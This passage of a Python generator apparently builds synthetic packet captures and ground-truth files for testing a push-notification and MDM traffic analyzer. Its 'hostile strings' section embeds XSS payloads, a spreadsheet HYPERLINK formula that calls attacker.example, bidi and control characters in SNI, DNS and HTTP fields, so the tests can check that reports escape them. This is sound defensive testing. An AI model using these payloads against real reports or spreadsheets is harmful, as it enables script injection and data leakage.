    provider_request(120.0, 120.01)
    seq_push(cour["B"], 120.18, 0.0208)
    seq_push(cour["C"], 120.26, 0.0215, wire=252, split=100)
    seq_mdm(cap, C, 120.86, r_m, "C: check-in 0.6 s after its push (two-segment push)")
    seq_mdm(cap, B, 121.58, r_m, "B: check-in 1.4 s after its push")
    seq_smb(cap, C, 122.48, r_m, refused=True)
    seq_sus(cap, B, 123.98, 0.0052)
    seq_sus_http(cap, C, 124.98, 0.0052)
    seq_pkg(cap, B, 126.98, r_m)

    # -- keep-alives, round 1 -----------------------------------------------------------------
    for i, d in enumerate(devs.values()):
        if not d.running:
            seq_keepalive(cour[d.key], 130.37 + 7 * i, 0.05 + 0.01 * i, kas)

    # -- D (IPv6): push -> AAAA lookup -> check-in over IPv6 -------------------------------------
    provider_request(179.70)
    seq_push(cour["D"], 180.0, 0.0222)
    dns_lookup(cap, D.link, D.ip, D.dns_port(), 182.08, "mdm.example.com", 28, [], [MDM6], rtt=0.0012, ttl=300)
    seq_mdm(cap, D, 182.1, r_m, "D: check-in over IPv6 2.1 s after its push ([2001:db8:20::10]:8443)")

    # -- H: a push burst of two records 0.3 s apart, then a request on the kept-alive connection --
    provider_request(199.80)
    seq_push(cour["H"], 200.0, 0.0250, then=((0.3, 90),))
    t = seq_exchange(h_mdm, 200.9, r_m, 170, 96, ack=False)
    tls_close(h_mdm, t + 0.0502, r_m)

    # -- E (IPv6): push -> the AAAA lookup of mdm.example.com fails (NXDOMAIN), no connection ------
    provider_request(209.75)
    seq_push(cour["E"], 210.0, 0.0229, ack=False)
    dns_lookup(cap, E.link, E.ip, E.dns_port(), 210.7, "mdm.example.com", 28, [], [], rtt=0.0021,
               nxdomain="example.com")
    cap.seq_dns_failures = [(cap.flows[-1], "dns_nxdomain")]

    # -- F: push -> SYNs to the MDM server never answered (two attempts, S0) ----------------------
    provider_request(239.90)
    seq_push(cour["F"], 240.0, 0.0236)
    dns_lookup(cap, F.link, F.ip, F.dns_port(), 240.48, "mdm.example.com", 1, [], [MDM], rtt=0.0011, ttl=300)
    for t0, tries in ((240.51, (0.0, 1.0, 3.0)), (250.0, (0.0, 1.0))):
        s0 = TcpFlow(cap, F.ip, F.port(), MDM, 8443, F.link,
                     f"F: check-in attempt to mdm.example.com:8443 after its push: {len(tries)} SYNs "
                     f"(same ISN) at +{', +'.join(f'{x:g}' for x in tries)} s, never answered (S0, blocked: "
                     "no_response)")
        for dt in tries:
            s0.seg(t0 + dt, True, "S", seq=s0.c.isn)
        classify(s0, "mdm", "port")

    # -- G: push with no MDM activity for 75 s, then a check-in outside the window -----------------
    provider_request(269.80)
    seq_push(cour["G"], 270.0, 0.0243)

    # -- I: push just before the rotation boundary, check-in 0.2 s after it ------------------------
    provider_request(329.45)
    seq_push(cour["I"], 329.6, 0.0250)
    seq_mdm(cap, I, SEQ_ROTATION_S + 0.2, r_m, "I: check-in 0.6 s after its push, 0.2 s after the "
            "sequences_rot_a / sequences_rot_b boundary (its push is in rot_a)")
    seq_smb(cap, I, 331.5, r_m, refused=False, lookup=False)

    seq_mdm(cap, G, 345.0, r_m, "G: MDM check-in 75 s after its push (outside the 60 s window), no push "
            "before it inside the window: unsolicited_checkin")

    # -- a provider request for a device this capture does not see (no push follows) ---------------
    provider_request(450.0)

    # -- keep-alives round 2 (some devices); J (TLS 1.2 courier): an app push, no provider request ---
    for i, d in enumerate(devs.values()):
        if d.key in "ACEGIJ":
            seq_keepalive(cour[d.key], 420.52 + 11 * i, 0.05 + 0.01 * i, kas)
    seq_push(cour["J"], 540.0, 0.0264, wire=190, ack=False)
    seq_keepalive(cour["A"], 590.1, 0.061, kas)

    resolve_server_names(cap)
    end = max(f.t_ns for f in cap.frames)
    for fl in cap.flows:
        reason, _ = block_verdict(cap, fl, end)
        fl.extra.update(blocked=reason is not None, block_reason=reason)
    seq_flow_ids(cap)
    for fl in cap.flows:
        fl.extra["flow_id"] = fl.flow_id
    cap.truth_extra = seq_truth(cap, [cour[k] for k in devs], prov, kas, devs)
    return cap


def seq_flow_ids(cap: Capture):
    """flow_id per docs/flows.md "Order": ts_start, client address (16 bytes, IPv4 as
    ::ffff:a.b.c.d), client port, server address, server port, tcp before udp."""
    def addr(a: str) -> int:
        return int(ipaddress.IPv6Address(a if ":" in a else "::ffff:" + a))
    order = sorted(cap.flows, key=lambda fl: (min(f.t_ns for f in fl.frames), addr(fl.client_ip), fl.client_port,
                                              addr(fl.server_ip), fl.server_port, fl.transport != "tcp"))
    for i, fl in enumerate(order):
        fl.flow_id = i


def seq_flow_key(fl: Flow) -> dict:
    return {"transport": fl.transport, "client_ip": fl.client_ip, "client_port": fl.client_port,
            "server_ip": fl.server_ip, "server_port": fl.server_port,
            "first_ts": ns_text(min(f.t_ns for f in fl.frames))}


def seq_truth(cap: Capture, couriers: list, prov: TcpFlow, kas: list, devs: dict) -> dict:
    """docs/sequences.md applied to the frames built (independently of apnstrace)."""
    S = 1_000_000_000
    window, ka_window = round(SEQ_WINDOW_S * S), round(SEQ_KEEPALIVE_WINDOW_S * S)
    first = {id(fl): min(f.t_ns for f in fl.frames) for fl in cap.flows}
    who = {d.ip: f"{d.key} ({d.model})" for d in devs.values()}

    # Pushes: server bursts on the couriers with no device payload in the second before.
    pushes, answers = [], []
    for fl in couriers:
        pay = [(f.t_ns, f.c2s, len(payload_of(f))) for f in sorted(fl.frames, key=lambda f: f.t_ns) if payload_of(f)]
        i = 0
        while i < len(pay):
            if pay[i][1]:
                i += 1
                continue
            burst = [pay[i]]
            i += 1
            while i < len(pay) and not pay[i][1] and pay[i][0] - burst[-1][0] < round(SEQ_RECORD_GAP_S * S):
                burst.append(pay[i])
                i += 1
            t0 = burst[0][0]
            b = {"flow": fl, "ts": t0, "bytes": sum(n for _, _, n in burst), "packets": len(burst)}
            answered = any(c2s and t0 - ka_window <= t < t0 for t, c2s, _ in pay)
            (answers if answered else pushes).append(b)
    pushes.sort(key=lambda p: p["ts"])

    # Provider requests: the provider flow's client payload packets after the first two.
    reqs = [f.t_ns for f in sorted(prov.frames, key=lambda f: f.t_ns) if f.c2s and payload_of(f)][2:]
    taken_req = set()
    for p in pushes:
        cands = [t for t in reqs if t not in taken_req and p["ts"] - round(SEQ_PROVIDER_WINDOW_S * S) <= t <= p["ts"]]
        p["provider"] = min(cands) if cands else None
        if cands:
            taken_req.add(min(cands))

    # Check-in events: new MDM flows, requests after >= 10 s of device silence on one, DNS failures.
    def mdm_server(fl):
        name = fl.extra.get("server_name") or fl.server_ip
        return name if fl.server_port == 443 else f"{name}:{fl.server_port}"
    events = []
    for fl in cap.flows:
        if fl.extra.get("category") != "mdm":
            continue
        events.append({"ts": first[id(fl)], "device": fl.client_ip, "flow": fl, "blocked": fl.extra["blocked"],
                       "reason": fl.extra["block_reason"], "kind": "new_flow", "server": mdm_server(fl)})
        dev_pay = sorted(f.t_ns for f in fl.frames if f.c2s and payload_of(f))
        for prev, cur in zip(dev_pay, dev_pay[1:]):
            if cur - prev >= round(SEQ_CHECKIN_IDLE_S * S):   # also a burst start (>= 1 s)
                events.append({"ts": cur, "device": fl.client_ip, "flow": fl, "blocked": fl.extra["blocked"],
                               "reason": fl.extra["block_reason"], "kind": "kept_alive_request",
                               "server": mdm_server(fl)})
    for fl, reason in cap.seq_dns_failures:
        answer = max(f.t_ns for f in fl.frames if not f.c2s)
        events.append({"ts": answer, "device": fl.client_ip, "flow": fl, "blocked": True, "reason": reason,
                       "kind": "dns_failure", "server": "mdm.example.com"})
    events.sort(key=lambda e: e["ts"])
    for n, e in enumerate(events):
        e["n"] = n

    def key_or_none(fl):
        return seq_flow_key(fl) if fl is not None else None

    rows, taken = [], set()
    for p in pushes:
        dev = p["flow"].client_ip
        cands = [e for e in events if e["device"] == dev and e["n"] not in taken
                 and p["ts"] < e["ts"] <= p["ts"] + window]
        ok = [e for e in cands if not e["blocked"]]
        row = {"device_ip": dev, "device": who[dev], "push_ts": ns_text(p["ts"]),
               "push_flow": seq_flow_key(p["flow"]), "push_flow_id": p["flow"].flow_id,
               "push_bytes": p["bytes"], "push_packets": p["packets"],
               "provider_ts": ns_text(p["provider"]) if p["provider"] else None,
               "provider_flow": seq_flow_key(prov) if p["provider"] else None,
               "provider_flow_id": prov.flow_id if p["provider"] else None}
        if ok:
            e = ok[0]
            for x in events:                      # the check-in's session: it and the next 60 s
                if x["device"] == dev and e["ts"] <= x["ts"] <= e["ts"] + window:
                    taken.add(x["n"])
            fups = sorted((fl for fl in cap.flows if fl.client_ip == dev and fl.extra["category"] in SEQ_FOLLOWUPS
                           and e["ts"] < first[id(fl)] <= e["ts"] + window), key=lambda fl: first[id(fl)])
            cats = list(dict.fromkeys(fl.extra["category"] for fl in fups))
            row.update(outcome="checked_in", checkin_ts=ns_text(e["ts"]), checkin_event=e["kind"],
                       checkin_flow=seq_flow_key(e["flow"]), checkin_flow_id=e["flow"].flow_id,
                       mdm_server=e["server"], latency_s=(e["ts"] - p["ts"]) / S,
                       followups=",".join(cats) or None,
                       followups_blocked=sum(1 for fl in fups if fl.extra["blocked"]),
                       followup_flows=[seq_flow_key(fl) | {"flow_id": fl.flow_id, "category": fl.extra["category"],
                                                           "blocked": fl.extra["blocked"]} for fl in fups],
                       detail_reason=None)
        elif cands:
            e = cands[0]
            taken.update(x["n"] for x in cands)
            row.update(outcome="checkin_blocked", checkin_ts=ns_text(e["ts"]), checkin_event=e["kind"],
                       checkin_flow=seq_flow_key(e["flow"]), checkin_flow_id=e["flow"].flow_id,
                       mdm_server=e["server"], latency_s=None, attempt_after_s=(e["ts"] - p["ts"]) / S,
                       attempts=len(cands), followups=None, followups_blocked=None, detail_reason=e["reason"])
        else:
            row.update(outcome="no_checkin", checkin_ts=None, checkin_event=None, checkin_flow=None,
                       checkin_flow_id=None, mdm_server=None, latency_s=None, followups=None,
                       followups_blocked=None, detail_reason=None)
        row["mdm_server_inferred"] = False
        rows.append(row)
    left = [e for e in events if e["n"] not in taken]
    while left:
        e = left[0]
        session = [x for x in left if x["device"] == e["device"] and e["ts"] <= x["ts"] <= e["ts"] + window]
        rows.append({"device_ip": e["device"], "device": who[e["device"]], "push_ts": None, "push_flow": None,
                     "push_flow_id": None, "push_bytes": None, "push_packets": None, "provider_ts": None,
                     "provider_flow": None, "provider_flow_id": None, "outcome": "unsolicited_checkin",
                     "checkin_ts": ns_text(e["ts"]), "checkin_event": e["kind"],
                     "checkin_flow": seq_flow_key(e["flow"]), "checkin_flow_id": e["flow"].flow_id,
                     "mdm_server": e["server"], "latency_s": None, "followups": None, "followups_blocked": None,
                     "detail_reason": e["reason"], "session_events": len(session), "mdm_server_inferred": False})
        left = [x for x in left if x not in session]
    rows.sort(key=lambda r: r["push_ts"] or r["checkin_ts"])

    # What was built, checked against what the rules make of it.
    ka_rows = []
    for fl, asked, answer in kas:
        ka_rows.append({"device_ip": fl.client_ip, "courier_flow": seq_flow_key(fl), "courier_flow_id": fl.flow_id,
                        "device_ts": ns_text(asked.t_ns), "device_bytes": len(payload_of(asked)),
                        "answer_ts": ns_text(answer.t_ns), "answer_bytes": len(payload_of(answer)),
                        "answer_after_ms": (answer.t_ns - asked.t_ns) / 1e6})
        assert any(a["flow"] is fl and a["ts"] == answer.t_ns for a in answers), "keep-alive answer taken for a push"
    push_sizes = {p["bytes"] for p in pushes}
    assert KA_ACK_LEN in push_sizes
    return {
        "sequences_rules": "docs/sequences.md, SequenceOptions defaults: window 60 s, keepalive_window 1.0 s, "
                           "record_gap 0.5 s, burst_gap 1.0 s, checkin_idle 10 s, provider_window 5 s",
        "analyze_with": {"mdm_hosts": ["mdm.example.com:8443"], "cli": "--mdm-host mdm.example.com:8443"},
        "rotation": {"files": ["sequences_rot_a.pcap", "sequences_rot_b.pcap"],
                     "boundary_ts": ns_text(cap.at(SEQ_ROTATION_S)),
                     "note": "the same frames as this capture cut at boundary_ts (rot_a: frames before it, rot_b: "
                             "the rest); read together they give this capture's flows, and their sequences, "
                             "keepalives and provider requests are the ones in this file"},
        "flow_key": "push_flow / provider_flow / checkin_flow / courier_flow are {transport, client_ip, client_port, "
                    "server_ip, server_port, first_ts}; the *_flow_id fields are the flow_id this key gets by "
                    "docs/flows.md 'Order' (0-based, as in the flows table) - also written on each flow here",
        "devices": [{"key": d.key, "device_ip": d.ip, "model": d.model, "vlan": d.link.vlan,
                     "courier": f"{d.courier_ip}:5223", "courier_seen_from_start": not d.running,
                     "courier_tls": "TLS 1.2" if d.tls12 else "TLS 1.3"} for d in devs.values()],
        "sequence_fields": SEQ_FIELDS,
        "sequences": rows,
        "keepalives": ka_rows,
        "provider_requests": [{"ts": ns_text(t), "taken": t in taken_req} for t in reqs],
        "server_answers_not_pushes": [{"device_ip": a["flow"].client_ip, "ts": ns_text(a["ts"]),
                                       "bytes": a["bytes"]} for a in answers],
        "notes": SEQ_NOTES,
    }


SEQ_FIELDS = {
    "device_ip, push_ts, push_flow_id, push_bytes, provider_ts, provider_flow_id, checkin_ts, checkin_flow_id, "
    "mdm_server, latency_s, outcome, followups, followups_blocked, mdm_server_inferred":
        "the SEQUENCES columns (timestamps as exact epoch-ns text; null where the column is null)",
    "detail_reason": "the block reason `detail` carries (checkin_blocked rows), else null",
    "push_flow, provider_flow, checkin_flow": "the flows by key {transport, client_ip, client_port, server_ip, "
                                              "server_port, first_ts}",
    "device": "which device of `devices` (key and model)",
    "push_packets": "server payload packets in the push burst",
    "checkin_event": "new_flow (an MDM flow's first frame), kept_alive_request (a device burst after >= 10 s of "
                     "device silence on an open MDM flow) or dns_failure (the failed answer)",
    "followup_flows": "checked_in rows: the follow-up flows with flow_id, category, blocked",
    "attempt_after_s, attempts": "checkin_blocked rows: first attempt - push_ts, and the number of blocked events",
    "session_events": "unsolicited_checkin rows: events in the session (the first and those within 60 s after)",
}

SEQ_NOTES = [
    "Truth assumes the analysis is run with the MDM host mdm.example.com:8443 (--mdm-host). Without it the MDM "
    "flows are still category mdm (port 8443), but E's NXDOMAIN for mdm.example.com is not a DNS failure "
    "(docs/blocked.md: only names the classifier puts in a watched category by name), so E's push would be "
    "no_checkin instead of checkin_blocked. Per-flow category/classified_by/server_name here are for analyze() "
    "WITHOUT a site profile (as tests/e2e/test_samples.py runs it): with --mdm-host the mdm flows say "
    "classified_by 'site'.",
    "checkin_ts of a DNS-failure event is the time of the failed answer (result.blocked's ts for DNS failures); "
    "its checkin_flow is the DNS flow; its mdm_server is the name asked, 'mdm.example.com', without a port "
    "(no connection says which port).",
    "latency_s is set for checked_in rows only (the doc defines it under checked_in); checkin_blocked rows carry "
    "it as attempt_after_s instead. mdm_server is null for no_checkin rows.",
    "followups: null when a checked_in row has no follow-up flows (followups_blocked 0); both null for every "
    "other outcome (the doc defines follow-ups after checked_in rows only).",
    "Sessions: a checked_in push takes its check-in event and every event of the device in the 60 s after it "
    "(A's request on its kept-alive MDM connection at +86 s is inside the session of A's check-in at +60.8 s, "
    "so A's second push at +80 s is no_checkin). A checkin_blocked push takes all the events in its window (F: both S0 attempts "
    "are in the one row). Unsolicited rows: one per session, checkin = the session's first event.",
    "Provider: in push time order each push takes the EARLIEST untaken request in [push_ts - 5 s, push_ts] "
    "(APNs delivers in order). For the bulk send (requests at +120.000 for B and +120.010 for C; pushes B "
    "+120.180, C +120.260) this pairs B's push with the +120.000 request and C's with +120.010, as built. "
    "J's push (+540 s, 190 B) has no provider request (an app push): provider null. "
    "The request at +450 s has no push (its device is not in this capture).",
    "Keep-alive answers are 126 B records, the size of most pushes (A's two, B, D, E, F, G, I and H's first "
    "record): only the device's KeepAlive 50-140 ms before tells them apart (J's TLS 1.2 courier uses the same "
    "wire sizes). C, E, F, G and I's couriers were running before the capture (no SYN, no ClientHello): they are "
    "apns-courier by address (5223 to 17/8 or the APNs /48); A, B, D, H and J's are opened in the capture with "
    "SNI courier.push.apple.com.",
    "detail_reason is the block reason the doc says `detail` carries for checkin_blocked rows (\"its block reason "
    "and sentence\": dns_nxdomain, no_response); the sentence is apnstrace's wording and is not in the truth.",
    "Event order among a flow's kept-alive requests: a device payload packet is a check-in event when it comes "
    ">= 10 s after the previous device payload packet on that MDM flow (the first payload of a new flow is not "
    "a second event: the flow start already is one).",
    "Timestamps are exact epoch nanoseconds as text (also the flows' first_ts/last_ts in this file).",
]


def rotation_pair(cap: Capture) -> list[Capture]:
    """sequences_site.pcap cut at SEQ_ROTATION_S into two files (same frames); each file's own
    flows (as it reads alone) are its truth, the sequences stay in the whole capture's truth."""
    cut = cap.at(SEQ_ROTATION_S)
    out = []
    for name, inside in (("sequences_rot_a.pcap", lambda t: t < cut), ("sequences_rot_b.pcap", lambda t: t >= cut)):
        part = Capture(name, cap.interfaces, start_offset_s=(cap.t0 - BASE_NS) // 1_000_000_000)
        part.exact_ts = True
        part.frames = [f for f in cap.frames if inside(f.t_ns)]
        for fl in cap.flows:
            frames = [f for f in fl.frames if inside(f.t_ns)]
            if frames:
                part.flows.append(Flow(part, fl.transport, fl.client_ip, fl.client_port, fl.server_ip,
                                       fl.server_port, fl.link, fl.what, fl.v6, frames))
        part.truth_extra = {
            "rotation_of": "sequences_site.pcap", "boundary_ts": ns_text(cut),
            "pair": ["sequences_rot_a.pcap", "sequences_rot_b.pcap"],
            "note": "flows here are this file read alone (a flow cut by the boundary appears in both files, "
                    "without its SYN in rot_b). Read together, the pair gives sequences_site.pcap's flows, and "
                    "its sequences / keepalives truth is in sequences_site.pcap.truth.json"}
        out.append(part)
    return out


# --------------------------------------------------------------------------- hostile strings

HOSTILE = {   # what an attacker can put in names and headers a capture shows (report escaping)
    "script": "<script>alert(1)</script>",
    "attribute": '"onerror=alert(1) x="',
    "img": "<img src=x onerror=alert(2)>",
    "formula": '=HYPERLINK("http://attacker.example/?leak","Click")',
    "bidi": "\u202e",                       # RIGHT-TO-LEFT OVERRIDE
    "control": "\x00\x07\x08\x1b[2J\x7f",   # NUL, BEL, BS, an ANSI clear-screen, DEL
}
HOSTILE_LONG_PATH = "/pkgs/" + (HOSTILE["img"] * 80)[:1994]   # 2,000 characters
assert len(HOSTILE_LONG_PATH) == 2000


def wire_text(value):
    """A string as apnstrace's decoders print what the helpers wrote: printable ASCII as is
    (except backslash), every other byte of its UTF-8 as \\xNN."""
    if not isinstance(value, str):
        return value
    return "".join(chr(b) if 0x20 <= b < 0x7F and b != 0x5C else f"\\x{b:02x}" for b in value.encode())


def gen_hostile_strings() -> Capture:
    cap = Capture("hostile_strings.pcap", [(LT_ETHERNET, 6)], start_offset_s=36000)
    cap.dns_names = []
    iphone = Link("eth", c_mac=IPHONE_MAC)
    ipad = Link("eth", c_mac=IPAD_MAC)
    h = HOSTILE
    names = {
        "dns_answer": f"{h['img']}.courier.push.apple.com",
        "sni_script": f"{h['script']}.courier.push.apple.com",
        "sni_attribute": f"{h['attribute']}.courier.push.apple.com",
        "sni_bidi_control": f"{h['bidi']}gpj.exe{h['control']}.courier.push.apple.com",
        "dns_nxdomain": f"{h['script']}.push.apple.com",
        "http_host": f"{h['img']}.captive.apple.com",
        "http_path": f"/{h['formula']}?{h['script']}",
        "http_user_agent": f"CaptiveNetworkSupport {h['attribute']} {h['bidi']}{h['control']} wispr",
        "long_path": HOSTILE_LONG_PATH,
    }
    r = 0.0214
    # -- a DNS answer for a hostile name under courier.push.apple.com; the next flow goes there
    dns_lookup(cap, iphone, DEV4, 61301, 0.0, names["dns_answer"], 1, [], ["17.57.146.60"])
    c1 = TcpFlow(cap, DEV4, 49920, "17.57.146.60", 5223, iphone,
                 "APNs courier, TLS 1.3, SNI <script>alert(1)</script>.courier.push.apple.com, ALPN "
                 "apns-security-v3; connect / ack; stays open (S1). sni decides (a subdomain of "
                 "courier.push.apple.com)")
    t = tls13_open(c1, 0.0204, r, names["sni_script"], ["apns-security-v3"], server_len=300)
    exchange(c1, t + 0.0019, r, 300, 60)
    classify(c1, "apns", "sni")
    # -- a second device's courier: hostile attribute-breaking SNI, reset after the ClientHello
    c2 = TcpFlow(cap, IPAD4, 50120, "17.57.146.61", 5223, ipad,
                 "APNs courier from the iPad, TLS 1.3 ClientHello with SNI \"onerror=alert(1) x=\""
                 ".courier.push.apple.com, then a RST/ACK from the server side 2.1 ms later "
                 "(RSTR, reset_after_handshake)", s_ttl=61)
    t = c2.handshake(1.0, r) + 0.0008
    tls_hello(c2, t, names["sni_attribute"], ["apns-security-v3"], True)
    c2.seg(t + 0.0021, False, "RA")
    classify(c2, "apns", "sni")
    # -- a courier whose SNI has a bidi override and control characters
    c3 = TcpFlow(cap, DEV4, 49922, "17.57.146.62", 5223, iphone,
                 "APNs courier, TLS 1.3, SNI U+202E 'gpj.exe' NUL BEL BS ESC[2J DEL .courier.push.apple.com "
                 "(UTF-8 and control bytes on the wire); stays open (S1)")
    t = tls13_open(c3, 2.0, r, names["sni_bidi_control"], ["apns-security-v3"], server_len=300)
    exchange(c3, t + 0.0019, r, 300, 60)
    classify(c3, "apns", "sni")
    # -- an NXDOMAIN for a hostile APNs name: a blocked-table row (and the worst one)
    dns_lookup(cap, iphone, DEV4, 61303, 3.0, names["dns_nxdomain"], 1, [], [], nxdomain="apple.com")
    # -- clear-text HTTP: hostile Host, path (a spreadsheet formula and a script tag) and User-Agent
    cp = TcpFlow(cap, DEV4, 50030, CAPTIVE, 80, iphone,
                 "captive-portal style GET to 17.253.27.205:80 with a hostile Host, path and User-Agent "
                 "(bidi override and control bytes); 200 Success; FIN both ways. http-host decides "
                 "(a subdomain of captive.apple.com)", s_ttl=57)
    rc = 0.0061
    t = cp.handshake(4.0, rc) + 0.0002
    t = http_request(cp, t, "GET", names["http_host"], names["http_path"], names["http_user_agent"])
    cp.ack(t + rc, False)
    body = b"<HTML><HEAD><TITLE>Success</TITLE></HEAD><BODY>Success</BODY></HTML>"
    t = http_response(cp, t + 0.040, 200, "OK", "Content-Type: text/html\r\n", body)
    cp.ack(t + 0.00005, True)
    tcp_close(cp, t + 0.0103, rc)
    classify(cp, "apple", "http-host")
    # -- a 2,000-character path to swcdn.apple.com
    sw = TcpFlow(cap, IPAD4, 50125, SWCDN, 80, ipad,
                 "GET http://swcdn.apple.com with a 2,000-character path (80 <img onerror> tags), "
                 "404; FIN both ways. http-host decides (swcdn.apple.com)", s_ttl=57)
    t = sw.handshake(5.0, 0.0052) + 0.0002
    t = http_request(sw, t, "GET", "swcdn.apple.com", names["long_path"], MUNKI_UA)
    sw.ack(t + 0.0052, False)
    t = http_response(sw, t + 0.021, 404, "Not Found", "Content-Type: text/plain\r\n", b"Not Found")
    sw.ack(t + 0.00005, True)
    tcp_close(sw, t + 0.0103, 0.0052)
    classify(sw, "sus", "http-host")

    resolve_server_names(cap)
    for fl in cap.flows:
        fl.extra = {k: wire_text(v) for k, v in fl.extra.items()}
        fl.what = wire_text(fl.what)
    cap.truth_extra = {
        "hostile": {k: {"text": v, "as_decoded": wire_text(v)} for k, v in HOSTILE.items()},
        "names": {k: {"text": v, "as_decoded": wire_text(v)} for k, v in names.items()},
        "dns_failures": [{"qname": names["dns_nxdomain"], "qtype": "A", "reason": "dns_nxdomain",
                          "client": DEV4, "client_port": 61303, "server": RESOLVER, "server_port": 53}],
        "blocked": [{"client_ip": IPAD4, "client_port": 50120, "block_reason": "reset_after_handshake"}],
        "note": ("strings as the helpers wrote them (`text`) and as apnstrace's decoders print them "
                 "(`as_decoded`: printable ASCII except backslash as is, every other UTF-8 byte as \\xNN; "
                 "DNS names lower-cased). Per-flow classification columns are given as decoded. "
                 "report.html must show every one as text: escaped, never markup."),
    }
    return cap


def all_captures() -> list[Capture]:
    caps = [gen_courier_push(), gen_mdm_checkin(), gen_blocked_syn(), gen_site_mixed()]
    caps.append(variety("variety_nsec_be.pcap", Link("eth"), linktype=LT_ETHERNET, nsec=True, big_endian=True))
    caps.append(variety("variety_sll2.pcap", Link("sll2"), linktype=LT_SLL2))
    caps.append(variety("variety_null.pcap", Link("null"), linktype=LT_NULL))
    caps.append(variety("variety_raw.pcap", Link("raw"), linktype=LT_RAW))
    caps.append(gen_site_categories())
    caps += [gen_blocked_reasons(), gen_courier_flapping()]
    seq = gen_sequences_site()
    caps += [seq, *rotation_pair(seq)]
    caps.append(gen_hostile_strings())
    return caps


# zlib version the committed courier_push.pcap.gz was deflated with. Deflate output is only
# guaranteed identical for the same zlib build; the reproducibility test compares the .gz
# byte for byte under this version and by decompressed content under any other.
GZ_ZLIB_VERSION = "1.2.13"


def gzip_bytes(data: bytes, name: str) -> bytes:
    """gzip member with a fixed header (mtime 0, OS 255, original name), deflate level 9."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    body = co.compress(data) + co.flush()
    hdr = b"\x1f\x8b\x08\x08" + struct.pack("<I", 0) + b"\x02\xff" + name.encode() + b"\x00"
    return hdr + body + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)


def write_all(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []

    def put(name: str, data: bytes):
        p = out / name
        p.write_bytes(data)
        written.append(p)

    for cap in all_captures():
        data = cap.file_bytes()
        truth = json.dumps(cap.truth(), indent=2) + "\n"
        put(cap.name, data)
        put(cap.name + ".truth.json", truth.encode())
        if cap.name == "courier_push.pcap":
            put("courier_push.pcap.gz", gzip_bytes(data, "courier_push.pcap"))
            gz_truth = json.loads(truth)
            gz_truth["capture"] = "courier_push.pcap.gz"
            put("courier_push.pcap.gz.truth.json", (json.dumps(gz_truth, indent=2) + "\n").encode())
    return written


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent)
    args = ap.parse_args(argv)
    for p in write_all(args.out):
        print(f"{p.stat().st_size:7d}  {p}")


if __name__ == "__main__":
    main()
